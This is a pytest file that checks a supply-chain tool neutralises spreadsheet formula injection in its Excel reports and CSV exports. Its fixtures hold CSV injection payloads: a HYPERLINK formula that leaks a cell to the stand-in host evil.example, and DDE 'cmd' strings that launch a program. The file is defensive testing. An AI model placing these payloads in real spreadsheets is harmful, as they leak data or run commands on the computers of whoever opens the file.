"""Nothing filiere writes can run as a formula: the report workbook, CSV exports, CSV output.

Names come from datasets, and a dataset can come from anyone: an item named
``=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`` must reach the adviser's
spreadsheet as that text, never as a live formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from filiere.cli import cli
from filiere.graph.embedded import EmbeddedStore
from filiere.ingest import export_dataset, load
from filiere.spreadsheet import csv_text, protect_workbook, read_text

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "capteur"

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _rewrite(path: Path, column: str, values: list[str]) -> None:
    """Replace the first ``len(values)`` values of ``column`` in a CSV file."""
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row, value in zip(rows, values, strict=False):
        row[column] = value
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture
def evil_dataset(tmp_path: Path) -> Path:
    """The example dataset with formula-like item and supplier names."""
    folder = tmp_path / "capteur"
    shutil.copytree(EXAMPLE, folder)
    _rewrite(folder / "items.csv", "name", EVIL)
    _rewrite(folder / "suppliers.csv", "name", EVIL[::-1])
    _rewrite(folder / "items.csv", "description", ["-5", "+33 1 23 45 67 89"])
    return folder


def _formula_cells(path: Path) -> list[str]:
    """Every ``<f>`` element of every sheet, read from the file itself."""
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(name))
        ]


def test_the_report_workbook_holds_no_formula(evil_dataset: Path, tmp_path: Path) -> None:
    store = tmp_path / "g.json"
    runner = CliRunner()
    result = runner.invoke(
        cli, ["--store", str(store), "ingest", "--no-progress", str(evil_dataset)]
    )
    assert result.exit_code == 0, result.output
    out = tmp_path / "report"
    result = runner.invoke(cli, ["--store", str(store), "report", "-o", str(out)])
    assert result.exit_code == 0, result.output
    [book_path] = list(out.rglob("*.xlsx"))
    assert _formula_cells(book_path) == []
    book = openpyxl.load_workbook(book_path)
    seen: set[str] = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    # The names are there, exactly as in the dataset.
    assert EVIL[0] in seen and EVIL[1] in seen


def test_protect_workbook_turns_every_formula_into_text() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([EVIL[0], "=1+1", "-3.5", -3.5, "Acier", "\t=1+1"])
    assert protect_workbook(wb) == 4
    assert [c.data_type for c in ws[1]] == ["s", "s", "s", "n", "s", "s"]
    assert ws["A1"].value == EVIL[0] and ws["D1"].value == -3.5
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_export_marks_formula_text_and_ingest_reads_it_back_exactly(
    evil_dataset: Path, tmp_path: Path
) -> None:
    first = EmbeddedStore(tmp_path / "a.json")
    load(evil_dataset, first, progress=False, source="capteur")
    export_dataset(first, tmp_path / "export")
    text = (tmp_path / "export" / "items.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        # No cell a spreadsheet would evaluate (plain numbers aside).
        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
        assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
    assert "'" + EVIL[0] in cells and "-5" in cells
    second = EmbeddedStore(tmp_path / "b.json")
    load(tmp_path / "export", second, progress=False, source="capteur")

    def rows(store: EmbeddedStore) -> list[object]:
        return [
            (n.label, n.key, {k: v for k, v in n.props.items() if k != "loaded_at"})
            for n in store.export().nodes
        ]

    assert rows(second) == rows(first)
    names = {n.props.get("name") for n in second.export().nodes}
    assert set(EVIL) <= names


def test_json_export_reads_back_exactly_through_the_cli(evil_dataset: Path, tmp_path: Path) -> None:
    """``filiere export FILE.json`` gives one JSON file that ingests to the same graph."""
    runner = CliRunner()
    first, second, out = tmp_path / "a.db", tmp_path / "b.db", tmp_path / "capteur.json"
    loaded = runner.invoke(
        cli, ["--store", str(first), "ingest", "--no-progress", str(evil_dataset)]
    )
    assert loaded.exit_code == 0, loaded.output
    done = runner.invoke(cli, ["--store", str(first), "export", str(out)])
    assert done.exit_code == 0, done.output
    assert str(out) in done.output
    data = json.loads(out.read_text(encoding="utf-8"))
    assert "items" in data and all(isinstance(r, dict) for r in data["items"])
    back = runner.invoke(cli, ["--store", str(second), "ingest", "--no-progress", str(out)])
    assert back.exit_code == 0, back.output

    def rows(path: Path) -> list[object]:
        return [
            (n.label, n.key, {k: v for k, v in n.props.items() if k not in ("loaded_at", "source")})
            for n in EmbeddedStore(path).export().nodes
        ]

    assert rows(second) == rows(first)
    # A folder is not a JSON file, and a JSON name is not a folder: clear errors.
    out.unlink()
    out.mkdir()
    refused = runner.invoke(cli, ["--store", str(first), "export", str(out)])
    assert refused.exit_code == 2 and "is a folder" in refused.output


def test_csv_output_of_commands_is_marked(evil_dataset: Path, tmp_path: Path) -> None:
    store = tmp_path / "g.json"
    runner = CliRunner()
    runner.invoke(cli, ["--store", str(store), "ingest", "--no-progress", str(evil_dataset)])
    result = runner.invoke(cli, ["--store", str(store), "deps", "CAPT-DEB", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


@pytest.mark.parametrize(
    "text", [*EVIL, "-3.5", "+33", "'abc", "''x", "'=déjà marqué", "", "Acier", "\t=1"]
)
def test_the_text_marker_round_trips(text: str) -> None:
    assert read_text(csv_text(text)) == text
